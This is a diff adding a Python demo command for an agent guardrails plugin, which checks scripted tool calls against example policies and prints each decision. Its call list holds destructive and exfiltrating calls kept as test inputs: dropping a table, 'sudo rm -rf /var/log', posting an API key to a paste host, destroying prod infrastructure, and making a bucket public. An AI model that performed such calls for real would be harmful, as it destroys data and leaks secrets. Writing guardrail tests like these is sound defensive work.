@@ -1,0 +1,146 @@
+"""``guardrails-plugin demo``: a walk through the example policies, no network needed.
+
+Until the agent integrations land, the demo evaluates scripted tool calls an agent might make
+against each example policy and shows what the guard would do and why.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import click
+from rich.markup import escape
+
+from guardrails_plugin.cli import render
+from guardrails_plugin.errors import PolicyError
+from guardrails_plugin.policy import Policy
+from guardrails_plugin.types import Principal, ToolCall
+
+__all__ = ["demo"]
+
+AGENT = Principal("agent:support-bot", on_behalf_of="slack:U024BE7LH")
+
+# (policy file, tool, args, data classes the masker would report, environment)
+SCRIPT: list[tuple[str, str, dict[str, Any], list[str], dict[str, str]]] = [
+    ("default.yaml", "search_tickets", {"query": "refund"}, [], {}),
+    ("default.yaml", "run_sql", {"query": "SELECT id FROM orders LIMIT 5"}, [], {}),
+    ("default.yaml", "run_sql", {"query": "DROP TABLE customers"}, [], {}),
+    ("default.yaml", "run_sql", {"query": "UPDATE users SET plan='pro' WHERE id=7"}, [], {}),
+    (
+        "default.yaml",
+        "http_post",
+        {"url": "https://paste.example", "body": "<API_KEY_1>"},
+        ["API_KEY"],
+        {},
+    ),
+    (
+        "default.yaml",
+        "send_email",
+        {"to": "<EMAIL_1>", "body": "Hi <PERSON_1>"},
+        ["EMAIL", "PERSON"],
+        {},
+    ),
+    ("default.yaml", "restart_service", {"name": "billing"}, [], {}),
+    ("data-export.yaml", "export_table", {"database": "prod-eu", "table": "customers"}, [], {}),
+    ("data-export.yaml", "export_table", {"database": "dev", "table": "t", "limit": 500}, [], {}),
+    (
+        "data-export.yaml",
+        "export_table",
+        {"database": "prod-eu", "table": "payments"},
+        ["CREDIT_CARD"],
+        {},
+    ),
+    ("privilege-escalation.yaml", "grant_role", {"principal": "bob", "role": "OrgAdmin"}, [], {}),
+    ("privilege-escalation.yaml", "grant_role", {"principal": "bob", "role": "reader"}, [], {}),
+    ("privilege-escalation.yaml", "run_shell", {"command": "sudo rm -rf /var/log"}, [], {}),
+    ("infrastructure.yaml", "terraform_plan", {"dir": "envs/prod"}, [], {"env": "prod"}),
+    (
+        "infrastructure.yaml",
+        "terraform_apply",
+        {"dir": "envs/prod", "flags": ["-destroy"]},
+        [],
+        {"env": "prod"},
+    ),
+    (
+        "infrastructure.yaml",
+        "kubectl_delete",
+        {"kind": "pod", "name": "api-7f9"},
+        [],
+        {"env": "prod"},
+    ),
+    (
+        "infrastructure.yaml",
+        "s3_put_bucket_acl",
+        {"bucket": "exports", "acl": "public-read"},
+        [],
+        {},
+    ),
+]
+
+BAD_POLICY = """\
+version: 1
+defaults: {effect: deny}
+rules:
+  - id: prod-export
+    match: {tool: export_table, args: {database: {regex: "^(prod"}}}
+    effect: aprove
+"""
+
+
+@click.command()
+@click.option(
+    "--policies",
+    "policies_dir",
+    default="policies",
+    show_default=True,
+    type=click.Path(file_okay=False, path_type=Path),
+    help="Folder holding the example policies.",
+)
+def demo(policies_dir: Path) -> None:
+    """Walk through the example policies with scripted agent tool calls."""
+    out = render.stdout()
+    if not policies_dir.is_dir():
+        raise click.BadParameter(
+            f"folder {str(policies_dir)!r} not found; run the demo from a clone of the repository "
+            "or pass --policies DIR",
+            param_hint="--policies",
+        )
+    loaded: dict[str, Policy] = {}
+    for name in sorted({row[0] for row in SCRIPT}):
+        try:
+            loaded[name] = Policy.load(policies_dir / name)
+        except PolicyError as exc:
+            render.print_policy_error(render.stderr(), exc)
+            raise SystemExit(1) from None
+    out.print("[bold]guardrails-plugin demo[/]: what the guard decides for calls an agent makes\n")
+    out.print(f"Agent {AGENT.agent}, acting for {AGENT.on_behalf_of}.\n")
+    current = ""
+    for name, tool, args, data, env in SCRIPT:
+        if name != current:
+            current = name
+            out.print(f"\n[bold]{policies_dir / name}[/]")
+        call = ToolCall(tool, args, principal=AGENT, environment=env)
+        decision = loaded[name].evaluate(call, data)
+        found = f"  [dim]found: {', '.join(data)}[/]" if data else ""
+        where = f"  [dim]env: {env}[/]" if env else ""
+        out.print(f"  {tool} {escape(json.dumps(args))}{found}{where}")
+        rule = decision.rule_id or "default"
+        out.print(
+            f"    -> {render.effect_style(decision.effect)} ({rule}): {escape(decision.reason)}"
+        )
+    out.print("\n[bold]Why?[/] `policy explain` shows every rule checked before the winner:\n")
+    explanation = loaded["default.yaml"].explain(
+        ToolCall("run_sql", {"query": "UPDATE users SET plan='pro'"}, principal=AGENT)
+    )
+    render.print_explanation(out, explanation)
+    out.print("\n[bold]A broken policy refuses to load[/], naming file, line, rule and field:\n")
+    try:
+        Policy.from_string(BAD_POLICY, name="bad-example.yaml")
+    except PolicyError as exc:
+        render.print_policy_error(out, exc)
+    out.print(
+        "\nNext: `guardrails-plugin policy explain policies/default.yaml --tool run_sql "
+        '--args \'{"query": "DROP TABLE t"}\'`'
+    )
